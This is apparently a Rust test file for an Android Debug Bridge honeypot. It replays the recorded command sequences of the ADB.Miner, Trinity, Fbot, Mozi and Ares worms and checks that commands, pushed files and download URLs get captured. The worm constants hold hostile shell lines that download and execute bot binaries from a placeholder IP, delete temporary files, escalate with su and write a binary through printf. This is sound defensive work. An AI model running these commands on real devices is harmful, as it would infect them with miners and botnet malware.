//! Worms that go from one open device to the next, as analyses and honeypots have published their dialogues: the record of each is whole.

use super::super::transcript::{Outcome, Step, Transcript};
use super::message::{Command, Message};

/// What a worm does next, each on a stream of its own.
enum Deed {
    Says(&'static str),
    /// A file of this name, pushed to `/data/local/tmp`.
    Pushes(&'static str),
}
use Deed::{Pushes, Says};

/// ADB.Miner (Netlab 360, February 2018): `droidbot` and a dozen files.
const MINER: &[Deed] = &[
    Says("shell:pm path com.android.good.miner"),
    Pushes("sss"),
    Pushes("nohup"),
    Pushes("bot.dat"),
    Pushes("droidbot"),
    Pushes("xmrig32"),
    Pushes("xmrig64"),
    Pushes("invoke.sh"),
    Pushes("config.json"),
    Pushes("install-recovery.sh"),
    Pushes("ddexe"),
    Pushes("debuggerd"),
    Says("shell:chmod 0755 /data/local/tmp/droidbot"),
    Says("shell:chmod 0755 /data/local/tmp/nohup"),
    Says("shell:/data/local/tmp/nohup /data/local/tmp/droidbot"),
    Says("shell:am start -n com.android.good.miner/com.example.MainActivity"),
];

/// Trinity, as sensors see it to this day.
const TRINITY: &[Deed] = &[
    Says("shell:pm path com.ufo.miner"),
    Pushes("ufo.apk"),
    Says("shell:pm install /data/local/tmp/ufo.apk"),
    Says("shell:rm -f /data/local/tmp/ufo.apk"),
    Says("shell:am start -n com.ufo.miner/com.example.test.MainActivity"),
    Says("shell:ps | grep trinity"),
    Says("shell:rm -rf /data/local/tmp/*"),
    Pushes("nohup"),
    Pushes("trinity"),
    Says("shell:chmod 0755 /data/local/tmp/nohup"),
    Says("shell:chmod 0755 /data/local/tmp/trinity"),
    Says("shell:/data/local/tmp/nohup su -c /data/local/tmp/trinity"),
    Says("shell:/data/local/tmp/nohup /data/local/tmp/trinity"),
    Says("shell:ps | grep trinity"),
];

/// Fbot (Netlab 360, September 2018) and the Mirai variants after it.
const FBOT: &[Deed] = &[Says(
    "shell:cd /data/local/tmp/; rm -rf *; busybox wget http://192.0.2.66/adbs -O -> adbs; sh adbs; wget http://192.0.2.66/fbot.arm7 -O -> f; chmod 777 f; ./f adb.wget; curl http://192.0.2.66/fbot.aarch64 > c; chmod 777 c; ./c adb.curl",
)];

/// Mozi, and with it most of what comes by this way now.
const MOZI: &[Deed] = &[Says(
    "shell:>/sdcard/Download/f && cd /sdcard/Download/; >/dev/f && cd /dev/; >/data/local/tmp/f && cd /data/local/tmp/; busybox wget http://192.0.2.66:8088/Mozi.a; chmod 777 Mozi.a; ./Mozi.a adb; rm -f f",
)];

/// Ares: the binary in the command itself, line by line.
const ARES: &[Deed] = &[
    Says("shell:getprop ro.product.cpu.abi; uname -m"),
    Says(
        "shell:printf '\\177\\105\\114\\106\\001\\001\\001' > /data/local/tmp/a; printf '\\000\\000\\002\\000' >> /data/local/tmp/a",
    ),
    Says("shell:chmod +x /data/local/tmp/a; cd /data/local/tmp; nohup ./a & sleep 1; rm -f a"),
];

fn content(name: &str) -> Vec<u8> {
    [b"\x7fELF\x01\x01\x01", name.as_bytes(), &[0; 3_000]].concat()
}

/// Both sides' messages of a worm, with all the acknowledgements that its streams need.
fn meets(deeds: &[Deed]) -> Outcome {
    let mut steps = vec![(Message::new(Command::CNXN, 0x0100_0000, 4_096, b"host::\0").emit(), 0)];
    for (at, deed) in deeds.iter().enumerate() {
        let id = u32::try_from(at + 1).unwrap();
        let message = |command, data: &[u8]| Message::new(command, id, id, data).emit();
        let open = |name: &str| Message::new(Command::OPEN, id, 0, &[name.as_bytes(), b"\0"].concat()).emit();
        match deed {
            Says(text) => {
                steps.push((open(text), 10_000));
                steps.extend((0..8).map(|_| (message(Command::OKAY, b""), 10_000)));
            }
            Pushes(name) => {
                let (target, bytes) = (format!("/data/local/tmp/{name},33188"), content(name));
                let length = |bytes: usize| u32::try_from(bytes).unwrap().to_le_bytes();
                steps.push((open("sync:"), 0));
                steps.push((
                    message(Command::WRTE, &[b"SEND", &length(target.len())[..], target.as_bytes()].concat()),
                    0,
                ));
                steps.push((message(Command::WRTE, &[b"DATA", &length(bytes.len())[..], &bytes].concat()), 0));
                steps.push((message(Command::WRTE, b"DONE\0\0\0\x5f"), 0));
                steps.push((message(Command::OKAY, b""), 0));
                steps.push((message(Command::CLSE, b""), 0));
            }
        }
    }
    let steps: Vec<Step<'_>> = steps.iter().flat_map(|(bytes, wait)| [Step::Recv(bytes), Step::Wait(*wait)]).collect();
    let outcome = Transcript::tcp("adb", "").run(&steps);
    for deed in deeds {
        match deed {
            Says(text) => {
                let (_, command) = text.split_once(':').unwrap();
                let is_told =
                    |event: &&crate::events::Event| event.fields.get("command").is_some_and(|told| told == command);
                assert!(outcome.events.iter().any(|event| is_told(&event)), "{command}");
            }
            Pushes(name) => {
                let is_whole = outcome.samples.iter().any(|sample| sample.bytes == content(name));
                assert!(is_whole, "{name} is no sample");
            }
        }
    }
    outcome
}

/// What the device wrote to the stream of this deed, counted from 1.
fn said(outcome: &Outcome, id: u32) -> String {
    let (sent, mut reader) = (outcome.sent(), super::message::Reader::default());
    let mut input = &sent[..];
    let mut text = Vec::new();
    while let Some(message) = reader.next(&mut input).unwrap() {
        if message.command == Command::WRTE && message.arg1 == id {
            text.extend(message.data);
        }
    }
    String::from_utf8(text).unwrap()
}

fn urls(outcome: &Outcome) -> Vec<&str> {
    outcome.downloads.iter().map(|download| download.url.as_str()).collect()
}

#[test]
fn adb_miner_brings_its_dozen_files_and_starts() {
    let outcome = meets(MINER);
    assert_eq!(said(&outcome, 1), "", "the miner is not there yet");
    assert_eq!(outcome.samples.len(), 11);
}

#[test]
fn trinity_installs_its_miner_and_finds_itself_running() {
    let outcome = meets(TRINITY);
    assert_eq!(said(&outcome, 3), "Success\r\n");
    assert!(said(&outcome, 5).starts_with("Starting: Intent { cmp=com.ufo.miner/"));
    assert_eq!(said(&outcome, 6), "", "nothing of it runs yet");
    assert!(said(&outcome, 14).contains("/data/local/tmp/trinity"), "{}", said(&outcome, 14));
}

#[test]
fn fbot_and_mozi_name_where_they_come_from() {
    let fbot = meets(FBOT);
    assert_eq!(
        urls(&fbot),
        ["http://192.0.2.66/adbs", "http://192.0.2.66/fbot.arm7", "http://192.0.2.66/fbot.aarch64"]
    );
    assert_eq!(urls(&meets(MOZI)), ["http://192.0.2.66:8088/Mozi.a"]);
}

#[test]
fn a_program_written_by_the_commands_themselves_is_a_sample() {
    let outcome = meets(ARES);
    let sample = outcome.samples.iter().find(|sample| sample.bytes.starts_with(b"\x7fELF\x01\x01\x01\0\0\x02\0"));
    assert!(sample.is_some(), "{:?}", outcome.samples.len());
}
